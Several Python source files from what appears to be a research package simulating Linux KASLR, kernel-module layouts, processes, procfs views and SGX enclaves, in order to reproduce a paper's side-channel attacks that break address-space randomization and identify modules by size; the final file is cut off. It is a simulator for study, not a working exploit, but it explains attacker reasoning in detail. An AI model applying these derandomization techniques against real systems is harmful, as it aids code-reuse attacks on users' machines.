#: in distinct buckets
CYCLE_BUCKETS = (
    8, 16, 24, 32, 48, 64, 80, 96, 112, 128, 160, 192, 256, 384, 512,
    768, 1024, 2048, 4096,
)

#: bucket bounds for page-walk depth (terminal paging level, 1..4; the
#: 5 bucket catches a modelling bug rather than a real walk)
DEPTH_BUCKETS = (1, 2, 3, 4, 5)

#: bucket bounds (microseconds) for journal fsync latency
FSYNC_US_BUCKETS = (50, 100, 250, 500, 1000, 2500, 5000, 10000, 50000)

#: bucket bounds for the serve admission queue depth, sampled at every
#: admission decision (powers of two up to the default global bound)
QUEUE_DEPTH_BUCKETS = (1, 2, 4, 8, 16, 32, 64, 128, 256, 512)

#: bucket bounds (milliseconds, wall clock by nature -- the name of any
#: metric using them must carry ``wall``) for request latency
REQUEST_WALL_MS_BUCKETS = (
    5, 10, 25, 50, 100, 250, 500, 1000, 2500, 5000, 15000, 60000,
)

#: bucket bounds (milliseconds, wall clock) for time a submission sat
#: in the fair-share scheduler before the pool launched it; finer at
#: the low end than request latency because sub-5ms queue waits are
#: the healthy norm
QUEUE_WAIT_WALL_MS_BUCKETS = (
    1, 2, 5, 10, 25, 50, 100, 250, 500, 1000, 2500, 5000, 15000, 60000,
)


class Histogram:
    """A fixed-bucket histogram: counts of observations per bound.

    ``buckets`` is a strictly increasing tuple of inclusive upper
    bounds; bucket ``i`` counts observations ``v`` with
    ``buckets[i-1] < v <= buckets[i]`` and one extra overflow bucket
    counts everything above the last bound.  ``count`` / ``total`` /
    ``min`` / ``max`` are tracked exactly, so means survive bucketing.
    """

    __slots__ = ("name", "buckets", "counts", "count", "total",
                 "min", "max")

    def __init__(self, name, buckets=CYCLE_BUCKETS):
        buckets = tuple(buckets)
        if not buckets:
            raise ValueError("a histogram needs at least one bucket bound")
        if any(nxt <= prev for prev, nxt in zip(buckets, buckets[1:])):
            raise ValueError(
                "bucket bounds must be strictly increasing: {!r}"
                .format(buckets)
            )
        self.name = name
        self.buckets = buckets
        self.counts = [0] * (len(buckets) + 1)
        self.count = 0
        self.total = 0.0
        self.min = None
        self.max = None

    def bucket_index(self, value):
        """Index of the bucket ``value`` falls into (last = overflow)."""
        return bisect_left(self.buckets, value)

    def observe(self, value):
        self.counts[self.bucket_index(value)] += 1
        self.count += 1
        self.total += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value

    @property
    def mean(self):
        return self.total / self.count if self.count else 0.0

    def as_dict(self):
        return {
            "buckets": list(self.buckets),
            "counts": list(self.counts),
            "count": self.count,
            "total": round(self.total, 6),
            "min": self.min,
            "max": self.max,
        }


class Metrics:
    """A flat registry of named counters and histograms.

    Counters and histograms live in separate namespaces; a histogram is
    created on first :meth:`observe` with the bucket bounds supplied
    there (later calls reuse the registered bounds -- passing different
    bounds for an existing name is an error, bounds are part of the
    schema).
    """

    __slots__ = ("counters", "histograms")

    def __init__(self):
        self.counters = {}
        self.histograms = {}

    def inc(self, name, amount=1):
        """Add ``amount`` to counter ``name`` (created at zero)."""
        self.counters[name] = self.counters.get(name, 0) + amount

    def histogram(self, name, buckets=CYCLE_BUCKETS):
        """Get-or-create the histogram registered under ``name``."""
        hist = self.histograms.get(name)
        if hist is None:
            hist = self.histograms[name] = Histogram(name, buckets)
        elif hist.buckets != tuple(buckets):
            raise ValueError(
                "histogram {!r} already registered with bounds {!r}"
                .format(name, hist.buckets)
            )
        return hist

    def observe(self, name, value, buckets=CYCLE_BUCKETS):
        """Record ``value`` into histogram ``name``."""
        hist = self.histograms.get(name)
        if hist is None:
            hist = self.histograms[name] = Histogram(name, buckets)
        hist.observe(value)

    def as_dict(self):
        """Deterministic (name-sorted) serialization of the registry."""
        return {
            "counters": {
                name: self.counters[name] for name in sorted(self.counters)
            },
            "histograms": {
                name: self.histograms[name].as_dict()
                for name in sorted(self.histograms)
            },
        }
