"""Observability: structured tracing, metrics, and attack forensics.

Public surface:

* :class:`~repro.obs.trace.Tracer` / :data:`~repro.obs.trace.NULL_TRACER`
  -- span/event recording over simulated time;
* :class:`~repro.obs.metrics.Metrics` / :class:`~repro.obs.metrics.Histogram`
  -- counters and fixed-bucket histograms;
* :mod:`repro.obs.schema` -- ``repro-trace/v1`` validation and the
  wall-clock-stripping determinism helpers;
* :mod:`repro.obs.forensics` -- ``repro trace summarize`` / ``report``
  renderers.
"""

from repro.obs.forensics import (
    render_report,
    render_summary,
    summarize,
    summarize_file,
)
from repro.obs.metrics import (
    CYCLE_BUCKETS,
    DEPTH_BUCKETS,
    FSYNC_US_BUCKETS,
    Histogram,
    Metrics,
)
from repro.obs.schema import (
    WALL_FIELDS,
    canonical_bytes,
    load_trace,
    strip_wall_fields,
    validate_trace,
    validate_trace_file,
)
from repro.obs.trace import (
    NULL_SPAN,
    NULL_TRACER,
    TRACE_SCHEMA,
    NullTracer,
    Span,
    Tracer,
    serialize,
)

__all__ = [
    "CYCLE_BUCKETS",
    "DEPTH_BUCKETS",
    "FSYNC_US_BUCKETS",
    "Histogram",
    "Metrics",
    "NULL_SPAN",
    "NULL_TRACER",
    "NullTracer",
    "Span",
    "TRACE_SCHEMA",
    "Tracer",
    "WALL_FIELDS",
    "canonical_bytes",
    "load_trace",
    "render_report",
    "render_summary",
    "serialize",
    "strip_wall_fields",
    "summarize",
    "summarize_file",
    "validate_trace",
    "validate_trace_file",
]
