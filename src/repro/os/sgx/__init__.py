"""Simulated Intel SGX enclaves (paper Section IV-F)."""

from repro.os.sgx.enclave import Enclave

__all__ = ["Enclave"]
