"""SGX enclave model.

The paper uses an enclave as the *attacker's* vantage point: code inside an
enclave cannot read ``/proc/self/maps``, so to mount a code-reuse attack it
must derandomize its own host process's layout -- which the AVX probe does,
because masked loads/stores executed inside the enclave still translate
through the host page tables.  SGX2 matters because it allows RDTSC/RDTSCP
inside the enclave (the paper's high-precision timer note).
"""

import numpy as np

from repro.errors import ConfigError
from repro.mmu.address import PAGE_SIZE


class Enclave:
    """An enclave living inside a host process's address space."""

    def __init__(self, process, code_pages=16, data_pages=48, sgx2=True,
                 rng=None, seed=0):
        if rng is None:
            rng = np.random.default_rng(seed)
        self.process = process
        self.sgx2 = sgx2

        #: ELRANGE: a power-of-two region the loader reserves via mmap.
        total = code_pages + data_pages
        elrange_pages = 1
        while elrange_pages < total * 2:
            elrange_pages *= 2
        self.elrange_pages = elrange_pages
        self.elrange_base = process.mmap(
            elrange_pages, perms="---", name="sgx/elrange"
        )

        #: Fine-grained in-enclave ASLR: the code section lands at a random
        #: page offset inside ELRANGE (what Section IV-F breaks).
        max_offset = elrange_pages - total
        code_offset = int(rng.integers(1, max_offset))
        self.code_base = self.elrange_base + code_offset * PAGE_SIZE
        self.code_pages = code_pages
        self.data_base = self.code_base + code_pages * PAGE_SIZE
        self.data_pages = data_pages

        process.mprotect(self.elrange_base, elrange_pages, "---")
        # carve the enclave pages out of the reserved hole
        process.munmap(self.elrange_base, elrange_pages)
        process.mmap(code_pages, perms="r-x", addr=self.code_base,
                     name="sgx/code")
        process.mmap(data_pages, perms="rw-", addr=self.data_base,
                     name="sgx/data")

    def require_timer(self):
        """The attack needs RDTSC inside the enclave (SGX2 only)."""
        if not self.sgx2:
            raise ConfigError(
                "SGX1 enclaves cannot execute RDTSC; the paper's attack "
                "requires SGX2"
            )
