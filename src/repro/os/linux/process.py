"""User processes: mmap/munmap/mprotect, image loading, /proc/PID/maps.

The process maps into the kernel's *user-visible* page table (the shared
table without KPTI, the user shadow table with it), which is exactly the
table the attacker's probes translate through.
"""

from repro.errors import MappingError
from repro.mmu.address import PAGE_SIZE, page_align_up
from repro.mmu.flags import PageFlags, flags_from_prot
from repro.os.linux.libraries import default_library_set

_PROT_OF_STRING = {
    "r--": dict(read=True, write=False, execute=False),
    "rw-": dict(read=True, write=True, execute=False),
    "r-x": dict(read=True, write=False, execute=True),
    "rwx": dict(read=True, write=True, execute=True),
    "---": dict(read=False, write=False, execute=False),
}


class Region:
    """One VMA: a contiguous mapping with uniform permissions.

    ``lazy`` regions follow Linux demand paging: the VMA exists but no
    PTE does until the page is first touched (a minor fault maps it).
    ``populated`` tracks which page indices have been faulted in.
    """

    __slots__ = ("start", "pages", "perms", "name", "hidden", "lazy",
                 "populated")

    def __init__(self, start, pages, perms, name="", hidden=False,
                 lazy=False):
        self.start = start
        self.pages = pages
        self.perms = perms
        self.name = name
        self.hidden = hidden
        self.lazy = lazy
        self.populated = set() if lazy else None

    @property
    def end(self):
        return self.start + self.pages * PAGE_SIZE

    def __repr__(self):
        return "Region({:#x}-{:#x} {} {})".format(
            self.start, self.end, self.perms, self.name
        )


class Process:
    """A single user process inside a simulated Linux kernel."""

    def __init__(self, kernel, libraries=None, executable_pages=(6, 1, 2),
                 with_hidden_pages=True):
        self.kernel = kernel
        self.space = kernel.user_space
        self.policy = kernel.policy
        self.regions = []
        self._mmap_cursor = None

        self.text_base = self._load_executable(executable_pages)
        self.library_bases = {}
        if libraries is None:
            libraries = default_library_set()
        for image in libraries:
            self.library_bases[image.name] = self.load_library(image)
        if with_hidden_pages:
            self._map_hidden_pages()

    # -- image loading --------------------------------------------------------

    def _load_executable(self, page_spec):
        """Map the main executable: text / rodata / data segments."""
        text, rodata, data = page_spec
        base = self.policy.user_text_base()
        cursor = base
        for pages, perms, name in (
            (text, "r-x", "app/.text"),
            (rodata, "r--", "app/.rodata"),
            (data, "rw-", "app/.data"),
        ):
            # loader relocations already wrote the data pages -> dirty
            self._map_region(cursor, pages, perms, name, dirty=(perms == "rw-"))
            cursor += pages * PAGE_SIZE
        return base

    def load_library(self, image):
        """Map a library's sections consecutively at a randomized base."""
        base = self._next_mmap_address(image.total_pages)
        cursor = base
        for section in image.sections:
            self._map_region(
                cursor, section.pages, section.perms,
                "{}:{}".format(image.name, section.name),
                dirty=(section.perms == "rw-"),
            )
            cursor += section.pages * PAGE_SIZE
        return base

    def _map_hidden_pages(self):
        """Loader scratch pages that /proc/PID/maps does not report.

        The paper's probe "detected additional pages that had never been
        identified with a /proc/PID/maps file" (Figure 7); these model
        them.
        """
        for base, perms in (
            (self.text_base + 0x42000, "r--"),
            (self._next_mmap_address(1), "rw-"),
        ):
            self._map_region(base, 1, perms, "loader-scratch", hidden=True)

    # -- syscalls ---------------------------------------------------------------

    def mmap(self, pages, perms="rw-", addr=None, name="anon",
             populate=True):
        """Map ``pages`` anonymous pages; returns the chosen address.

        ``populate=True`` models MAP_POPULATE (PTEs installed eagerly);
        ``populate=False`` models stock Linux demand paging -- the pages
        stay non-present until :meth:`touch` faults them in, and a
        zero-mask AVX probe sees them as unmapped until then.
        """
        if addr is None:
            addr = self._next_mmap_address(pages)
        if populate or perms == "---":
            self._map_region(addr, pages, perms, name)
        else:
            self.regions.append(
                Region(addr, pages, perms, name, lazy=True)
            )
        return addr

    def touch(self, addr, write=False):
        """First-touch a demand-paged address (the minor-fault path).

        Returns True if a page was faulted in, False if it was already
        present.  A write fault installs the PTE dirty (the CPU sets D on
        the faulting store's retry); a read fault leaves it clean.
        """
        region = self.region_at(addr)
        if region is None or region.perms == "---":
            raise MappingError(
                "segfault: {:#x} is not in a mapped region".format(addr)
            )
        if not region.lazy:
            return False
        index = (addr - region.start) // PAGE_SIZE
        if index in region.populated:
            return False
        if write and "w" not in region.perms:
            raise MappingError(
                "segfault: write fault on {} region".format(region.perms)
            )
        flags = self._flags(region.perms)
        flags |= PageFlags.ACCESSED
        if write:
            flags |= PageFlags.DIRTY
        page_va = region.start + index * PAGE_SIZE
        self.space.map_range(page_va, PAGE_SIZE, flags)
        region.populated.add(index)
        return True

    def is_populated(self, addr):
        """Is there a present PTE behind ``addr`` right now?"""
        return self.space.translate(addr) is not None

    def munmap(self, addr, pages):
        """Remove mappings and the covering region records."""
        end = addr + pages * PAGE_SIZE
        for region in list(self.regions):
            if region.start >= end or region.end <= addr:
                continue
            if region.start < addr or region.end > end:
                raise MappingError("partial munmap of a region is not modelled")
            if region.lazy:
                for index in region.populated:
                    self.space.unmap_range(
                        region.start + index * PAGE_SIZE, PAGE_SIZE
                    )
            elif region.perms != "---":
                self.space.unmap_range(region.start, region.pages * PAGE_SIZE)
            self.regions.remove(region)

    def mprotect(self, addr, pages, perms):
        """Change permissions of an existing region (whole-region only)."""
        region = self.region_at(addr)
        if region is None or region.start != addr or region.pages != pages:
            raise MappingError("mprotect must cover exactly one region")
        old, new = region.perms, perms
        size = pages * PAGE_SIZE
        if old == "---" and new != "---":
            self.space.map_range(addr, size, self._flags(new))
        elif old != "---" and new == "---":
            self.space.unmap_range(addr, size)
        elif old != new:
            self.space.protect_range(addr, size, self._flags(new))
        region.perms = new

    # -- introspection -----------------------------------------------------------

    def maps(self):
        """/proc/PID/maps: visible regions, sorted, PROT_NONE included."""
        visible = [r for r in self.regions if not r.hidden]
        return sorted(visible, key=lambda r: r.start)

    def all_regions(self):
        """Ground truth including hidden pages (for verifying the attack)."""
        return sorted(self.regions, key=lambda r: r.start)

    def region_at(self, addr):
        for region in self.regions:
            if region.start <= addr < region.end:
                return region
        return None

    def true_permissions(self, addr):
        """Ground truth page permissions at ``addr`` ('---' if unmapped)."""
        region = self.region_at(addr)
        return region.perms if region is not None else "---"

    # -- internals -----------------------------------------------------------------

    @staticmethod
    def _flags(perms):
        return flags_from_prot(**_PROT_OF_STRING[perms])

    def _map_region(self, addr, pages, perms, name, hidden=False,
                    dirty=False):
        if pages <= 0:
            raise MappingError("region must have at least one page")
        if perms != "---":
            flags = self._flags(perms)
            if dirty:
                flags |= PageFlags.DIRTY | PageFlags.ACCESSED
            self.space.map_range(addr, pages * PAGE_SIZE, flags)
        self.regions.append(Region(addr, pages, perms, name, hidden))

    def _next_mmap_address(self, pages):
        if self._mmap_cursor is None:
            self._mmap_cursor = self.policy.user_mmap_base()
        addr = self._mmap_cursor
        # one guard page between consecutive mmap'd objects
        self._mmap_cursor = page_align_up(
            addr + (pages + 1) * PAGE_SIZE
        )
        return addr
