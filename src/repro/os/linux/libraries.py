"""Shared-library section layouts used as identification signatures.

The paper's fine-grained user ASLR break (Section IV-F, Figure 7) observes
that loaded libraries consist of consecutive sections whose permissions
appear in the order ``r-x``, ``---``, ``r--``, ``rw-`` and uses the section
*sizes* as signatures.  This module reconstructs the Ubuntu 18.04 glibc-era
layouts the paper probed.
"""

from repro.mmu.address import PAGE_SIZE


class Section:
    """One contiguous same-permission region of a mapped image."""

    __slots__ = ("name", "pages", "perms")

    def __init__(self, name, pages, perms):
        if perms not in ("r-x", "r--", "rw-", "---"):
            raise ValueError("unsupported section permissions " + perms)
        self.name = name
        self.pages = pages
        self.perms = perms

    @property
    def size(self):
        return self.pages * PAGE_SIZE

    def __repr__(self):
        return "Section({!r}, {} pages, {})".format(
            self.name, self.pages, self.perms
        )


class LibraryImage:
    """An ELF shared object as the loader maps it."""

    def __init__(self, name, sections):
        self.name = name
        self.sections = list(sections)

    @property
    def total_pages(self):
        return sum(section.pages for section in self.sections)

    def signature(self):
        """The (perms, pages) sequence an attacker can measure (P2 + P5)."""
        return tuple((s.perms, s.pages) for s in self.sections)

    def load_signature(self):
        """Signature as observable by a masked-load-only probe, which cannot
        tell r-x / r-- / rw- apart (Figure 3): mapped page-run lengths."""
        runs = []
        current = 0
        for section in self.sections:
            if section.perms == "---":
                if current:
                    runs.append(current)
                current = 0
            else:
                current += section.pages
        if current:
            runs.append(current)
        return tuple(runs)

    def __repr__(self):
        return "LibraryImage({!r}, {} pages)".format(
            self.name, self.total_pages
        )


def _lib(name, *spec):
    return LibraryImage(
        name, [Section(n, pages, perms) for n, pages, perms in spec]
    )


#: Ubuntu 18.04.3 (glibc 2.27 era) library layouts.  The large ``---`` hole
#: between text and data is the loader's alignment gap the paper's Figure 7
#: shows for libc.
LIBRARY_CATALOG = {
    "libc.so.6": _lib(
        "libc.so.6",
        (".text", 437, "r-x"),
        ("gap", 511, "---"),
        (".rodata/relro", 4, "r--"),
        (".data/.bss", 2, "rw-"),
    ),
    "ld-linux-x86-64.so.2": _lib(
        "ld-linux-x86-64.so.2",
        (".text", 39, "r-x"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 1, "rw-"),
    ),
    "libpthread.so.0": _lib(
        "libpthread.so.0",
        (".text", 24, "r-x"),
        ("gap", 511, "---"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 5, "rw-"),
    ),
    "libdl.so.2": _lib(
        "libdl.so.2",
        (".text", 3, "r-x"),
        ("gap", 511, "---"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 1, "rw-"),
    ),
    "libm.so.6": _lib(
        "libm.so.6",
        (".text", 395, "r-x"),
        ("gap", 509, "---"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 1, "rw-"),
    ),
    "libstdc++.so.6": _lib(
        "libstdc++.so.6",
        (".text", 372, "r-x"),
        ("gap", 512, "---"),
        (".rodata/relro", 11, "r--"),
        (".data/.bss", 2, "rw-"),
    ),
    "librt.so.1": _lib(
        "librt.so.1",
        (".text", 7, "r-x"),
        ("gap", 510, "---"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 1, "rw-"),
    ),
    "libgcc_s.so.1": _lib(
        "libgcc_s.so.1",
        (".text", 23, "r-x"),
        ("gap", 508, "---"),
        (".rodata/relro", 1, "r--"),
        (".data/.bss", 1, "rw-"),
    ),
}


def default_library_set():
    """Libraries a minimal dynamically linked process maps, load order."""
    return [
        LIBRARY_CATALOG["libc.so.6"],
        LIBRARY_CATALOG["libpthread.so.0"],
        LIBRARY_CATALOG["libdl.so.2"],
        LIBRARY_CATALOG["ld-linux-x86-64.so.2"],
    ]
