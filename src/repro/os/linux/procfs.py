"""Text-format procfs views, as a real PoC would read and parse them.

The attacks consume structured data from the OS layer directly; these
helpers render (and parse back) the classic text formats so examples and
tests can exercise the exact byte-level interface an unprivileged
attacker has:

* ``/proc/modules``      -- world-readable; the size column drives the
  module-identification attack.  Addresses render as 0x0 for
  unprivileged readers (``kptr_restrict``), faithfully reproducing why
  the attack must *infer* them.
* ``/proc/kallsyms``     -- symbols render zeroed for unprivileged
  readers too; the privileged view is ground truth for verification.
* ``/proc/PID/maps``     -- the user-space layout the Figure 7 attack is
  benchmarked against.
"""

from repro.mmu.address import PAGE_SIZE


def render_proc_modules(kernel, privileged=False):
    """The /proc/modules text: `name size refcnt deps state address`."""
    lines = []
    for name, size_bytes in kernel.proc_modules():
        address = kernel.module_map[name][0] if privileged else 0
        lines.append("{} {} 1 - Live 0x{:016x}".format(
            name, size_bytes, address
        ))
    return "\n".join(lines) + "\n"


def parse_proc_modules(text):
    """Parse /proc/modules text into [(name, size_bytes, address)]."""
    entries = []
    for line in text.splitlines():
        if not line.strip():
            continue
        fields = line.split()
        if len(fields) < 6:
            raise ValueError("malformed /proc/modules line: " + line)
        entries.append(
            (fields[0], int(fields[1]), int(fields[5], 16))
        )
    return entries


def render_kallsyms(kernel, privileged=False):
    """The /proc/kallsyms text: `address type name`."""
    lines = []
    for name, address in sorted(
        kernel.kallsyms().items(), key=lambda item: item[1]
    ):
        shown = address if privileged else 0
        kind = "T" if name.startswith(("sys_", "entry_", "_text")) else "t"
        lines.append("{:016x} {} {}".format(shown, kind, name))
    return "\n".join(lines) + "\n"


def parse_kallsyms(text):
    """Parse kallsyms text into {name: address}."""
    symbols = {}
    for line in text.splitlines():
        if not line.strip():
            continue
        fields = line.split()
        if len(fields) < 3:
            raise ValueError("malformed kallsyms line: " + line)
        symbols[fields[2]] = int(fields[0], 16)
    return symbols


def render_maps(process):
    """The /proc/PID/maps text for a process's visible regions."""
    lines = []
    for region in process.maps():
        perms = region.perms + "p"  # private mappings
        lines.append(
            "{:012x}-{:012x} {} 00000000 00:00 0 {}".format(
                region.start, region.end, perms,
                region.name or "",
            ).rstrip()
        )
    return "\n".join(lines) + "\n"


def parse_maps(text):
    """Parse maps text into [(start, end, perms, name)]."""
    regions = []
    for line in text.splitlines():
        if not line.strip():
            continue
        fields = line.split(None, 5)
        addresses, perms = fields[0], fields[1]
        start_text, __, end_text = addresses.partition("-")
        name = fields[5] if len(fields) > 5 else ""
        regions.append(
            (int(start_text, 16), int(end_text, 16), perms[:3], name)
        )
    return regions


def module_sizes_from_proc(kernel):
    """What an unprivileged attacker actually extracts: name -> pages."""
    text = render_proc_modules(kernel, privileged=False)
    return {
        name: -(-size // PAGE_SIZE)
        for name, size, __ in parse_proc_modules(text)
    }
