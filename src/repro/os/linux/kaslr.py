"""Randomization policies: kernel base, module area, user mmap bases.

KASLR places the kernel image at one of 512 2-MiB-aligned slots inside the
1-GiB text window (9 bits of entropy); module load addresses are packed
from a randomized start of the 64-MiB module window; user-space ASLR uses
28 bits at 4-KiB granularity (paper Sections II-B and IV-F).
"""

import numpy as np

from repro.errors import ConfigError
from repro.mmu.address import PAGE_SIZE
from repro.os.linux import layout


class KASLRPolicy:
    """Draws randomized layout decisions from an explicit RNG."""

    def __init__(self, rng=None, seed=0, enabled=True):
        if rng is None:
            rng = np.random.default_rng(seed)
        self.rng = rng
        self.enabled = enabled

    # -- kernel -------------------------------------------------------------

    def kernel_base(self, image_2m_pages=layout.KERNEL_IMAGE_2M_PAGES,
                    extra_tail_bytes=0):
        """Pick the kernel base so the whole image fits in the window.

        With KASLR disabled (``nokaslr``) the base is the fixed
        0xffffffff81000000 the paper uses in its KPTI experiment.
        """
        if not self.enabled:
            return 0xFFFF_FFFF_8100_0000
        tail_slots = -(-extra_tail_bytes // layout.KERNEL_ALIGN)
        usable = layout.KERNEL_TEXT_SLOTS - image_2m_pages - tail_slots
        if usable <= 0:
            raise ConfigError("kernel image too large for the KASLR window")
        slot = int(self.rng.integers(0, usable))
        return layout.kernel_base_of_slot(slot)

    def module_area_start(self, total_pages):
        """Pick the randomized start of the packed module area."""
        slack = layout.MODULE_SLOTS - total_pages
        if slack <= 0:
            raise ConfigError("modules do not fit in the module window")
        if not self.enabled:
            return layout.MODULE_START
        offset = int(self.rng.integers(0, min(slack, 4096)))
        return layout.MODULE_START + offset * PAGE_SIZE

    def intermodule_gap_pages(self):
        """Unmapped guard pages between consecutive modules (>= 1)."""
        return int(self.rng.integers(1, 4))

    # -- user space ----------------------------------------------------------

    def user_text_base(self):
        """28-bit randomized executable base in the 0x55XX... region."""
        offset = int(self.rng.integers(0, 1 << layout.USER_ASLR_BITS))
        return layout.USER_TEXT_REGION + offset * PAGE_SIZE

    def user_mmap_base(self):
        """28-bit randomized mmap/library base in the 0x7fXX... region."""
        offset = int(self.rng.integers(0, 1 << layout.USER_ASLR_BITS))
        return layout.USER_MMAP_REGION + offset * PAGE_SIZE
