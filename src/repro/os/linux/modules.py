"""Kernel-module catalog mirroring the paper's Ubuntu 18.04.3 testbed.

The paper's module-identification attack (Section IV-C, Figure 5, Table I)
ran on a machine with **125 loaded modules, of which 19 have a unique
size** (in mapped pages).  This catalog reconstructs that structure with
real Ubuntu driver names:

* ``video``, ``mac_hid`` and ``pinctrl_icelake`` have unique sizes and are
  therefore identifiable (Figure 5),
* ``autofs4`` and ``x_tables`` map the same number of pages and are
  therefore ambiguous (Figure 5),
* ``bluetooth`` and ``psmouse`` (the behaviour-inference targets of
  Section IV-E) are among the uniquely sized modules so the spy can find
  them by size alone.
"""

from repro.mmu.address import PAGE_SIZE


class ModuleInfo:
    """Name and size of one loadable kernel module."""

    __slots__ = ("name", "size_bytes")

    def __init__(self, name, size_bytes):
        self.name = name
        self.size_bytes = size_bytes

    @property
    def pages(self):
        """Mapped 4 KiB pages (what the probing attack can observe)."""
        return -(-self.size_bytes // PAGE_SIZE)

    def __repr__(self):
        return "ModuleInfo({!r}, {} pages)".format(self.name, self.pages)


def _m(name, pages):
    return ModuleInfo(name, pages * PAGE_SIZE)


#: The 19 uniquely-sized modules (page counts used by no other module).
_UNIQUE = [
    _m("video", 13),
    _m("mac_hid", 18),
    _m("pinctrl_icelake", 21),
    _m("bluetooth", 136),
    _m("psmouse", 42),
    _m("i915", 712),
    _m("mac80211", 247),
    _m("iwlmvm", 131),
    _m("cfg80211", 193),
    _m("iwlwifi", 95),
    _m("snd_hda_intel", 17),
    _m("snd_hda_codec", 39),
    _m("nvme", 29),
    _m("btusb", 15),
    _m("e1000e", 55),
    _m("snd_soc_core", 64),
    _m("drm_kms_helper", 87),
    _m("thunderbolt", 110),
    _m("nf_tables", 160),
]

#: Modules sharing a page count with at least one other module.
_SHARED = [
    # -- 4-page cluster (30 modules) --------------------------------------
    _m("coretemp", 4), _m("crc32_pclmul", 4), _m("cryptd", 4),
    _m("intel_cstate", 4), _m("intel_rapl_perf", 4), _m("joydev", 4),
    _m("wmi_bmof", 4), _m("intel_wmi_thunderbolt", 4), _m("mei_hdcp", 4),
    _m("ucsi_acpi", 4), _m("typec_ucsi", 4), _m("int3403_thermal", 4),
    _m("int340x_thermal_zone", 4), _m("intel_soc_dts_iosf", 4),
    _m("intel_pch_thermal", 4), _m("serio_raw", 4), _m("rfkill", 4),
    _m("llc", 4), _m("stp", 4), _m("input_leds", 4),
    _m("hid_generic", 4), _m("btrtl", 4), _m("btbcm", 4),
    _m("btintel", 4), _m("ecc", 4), _m("ecdh_generic", 4),
    _m("xt_tcpudp", 4), _m("xt_conntrack", 4), _m("nf_defrag_ipv4", 4),
    _m("nf_defrag_ipv6", 4),
    # -- 5-page cluster (16) ----------------------------------------------
    _m("snd_seq_midi", 5), _m("snd_seq_midi_event", 5), _m("snd_rawmidi", 5),
    _m("snd_timer", 5), _m("snd_hwdep", 5), _m("glue_helper", 5),
    _m("crct10dif_pclmul", 5), _m("ghash_clmulni_intel", 5),
    _m("iptable_filter", 5), _m("iptable_nat", 5), _m("ip6table_filter", 5),
    _m("bridge", 5), _m("bpfilter", 5), _m("msr", 5),
    _m("parport_pc", 5), _m("ppdev", 5),
    # -- 6-page cluster (14) ----------------------------------------------
    _m("snd_seq", 6), _m("snd_seq_device", 6), _m("mei_me", 6),
    _m("mei", 6), _m("processor_thermal_device", 6), _m("idma64", 6),
    _m("virt_dma", 6), _m("intel_lpss_pci", 6), _m("intel_lpss", 6),
    _m("i2c_algo_bit", 6), _m("fb_sys_fops", 6), _m("syscopyarea", 6),
    _m("sysfillrect", 6), _m("sysimgblt", 6),
    # -- 7-page cluster (10) ----------------------------------------------
    _m("aesni_intel", 7), _m("crypto_simd", 7), _m("sdhci_pci", 7),
    _m("cqhci", 7), _m("sdhci", 7), _m("intel_rapl_msr", 7),
    _m("intel_rapl_common", 7), _m("x86_pkg_temp_thermal", 7),
    _m("soundwire_bus", 7), _m("soundwire_generic_allocation", 7),
    # -- 8-page cluster (12) ----------------------------------------------
    _m("snd_pcm", 8), _m("snd", 8), _m("soundcore", 8),
    _m("kvm_intel", 8), _m("kvm", 8), _m("irqbypass", 8),
    _m("rapl", 8), _m("efi_pstore", 8), _m("lpc_ich", 8),
    _m("wmi", 8), _m("acpi_pad", 8), _m("acpi_tad", 8),
    # -- 9-page cluster (4) -----------------------------------------------
    _m("nls_iso8859_1", 9), _m("usbhid", 9), _m("hid", 9),
    _m("i2c_i801", 9),
    # -- 10-page cluster (6) ----------------------------------------------
    _m("ahci", 10), _m("libahci", 10), _m("intel_th_gth", 10),
    _m("intel_th_pci", 10), _m("intel_th", 10), _m("pmt_telemetry", 10),
    # -- 11-page cluster: the Figure 5 ambiguous pair -----------------------
    _m("autofs4", 11), _m("x_tables", 11),
    # -- 12-page cluster (4) ----------------------------------------------
    _m("ip_tables", 12), _m("nf_nat", 12), _m("overlay", 12),
    _m("binfmt_misc", 12),
    # -- 16-page cluster (4) ----------------------------------------------
    _m("snd_hda_codec_realtek", 16), _m("snd_hda_codec_generic", 16),
    _m("snd_hda_codec_hdmi", 16), _m("snd_hda_core", 16),
    # -- 3-page cluster (2) -----------------------------------------------
    _m("fat", 3), _m("vfat", 3),
    # -- 20-page cluster (2) ----------------------------------------------
    _m("nf_conntrack", 20), _m("netfilter_xtables_compat", 20),
]

#: Full catalog: 125 modules, 19 unique page counts.
MODULE_CATALOG = tuple(_UNIQUE + _SHARED)


def default_module_set():
    """Return the full 125-module load set, in load order."""
    return list(MODULE_CATALOG)


def by_name(name, catalog=MODULE_CATALOG):
    """Look a module up by name."""
    for module in catalog:
        if module.name == name:
            return module
    raise KeyError("module {!r} not in catalog".format(name))


def page_count_histogram(catalog=MODULE_CATALOG):
    """Map of page count -> list of module names with that footprint."""
    histogram = {}
    for module in catalog:
        histogram.setdefault(module.pages, []).append(module.name)
    return histogram


def uniquely_sized(catalog=MODULE_CATALOG):
    """Modules whose page count is unique in the catalog (identifiable)."""
    histogram = page_count_histogram(catalog)
    return [
        by_name(names[0], catalog)
        for pages, names in sorted(histogram.items())
        if len(names) == 1
    ]
