"""Simulated x86-64 Linux: KASLR, KPTI, kernel modules, processes."""

from repro.os.linux.kaslr import KASLRPolicy
from repro.os.linux.kernel import LinuxKernel
from repro.os.linux.modules import MODULE_CATALOG, ModuleInfo, default_module_set
from repro.os.linux.process import Process
from repro.os.linux import layout

__all__ = [
    "KASLRPolicy",
    "LinuxKernel",
    "MODULE_CATALOG",
    "ModuleInfo",
    "Process",
    "default_module_set",
    "layout",
]
