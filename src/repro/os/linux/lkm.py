"""The custom experiment kernel module ("LKM") the paper's Section III uses.

The paper's micro-experiments need privileged operations an unprivileged
attacker does not have: INVLPG before each P3 sample, reading PTEs to
verify recovered permissions ("we investigated page tables using a
custom kernel module"), and flushing on demand.  This class models that
driver as an ioctl-style interface bound to one machine.

It exists for *experiments and verification only*; no attack code may
call it (attacks run unprivileged), which :attr:`call_log` lets tests
assert.
"""

from repro.errors import ConfigError
from repro.mmu.address import is_canonical


class ExperimentLKM:
    """Privileged experiment driver loaded into a simulated kernel."""

    def __init__(self, machine):
        if machine.os_family != "linux":
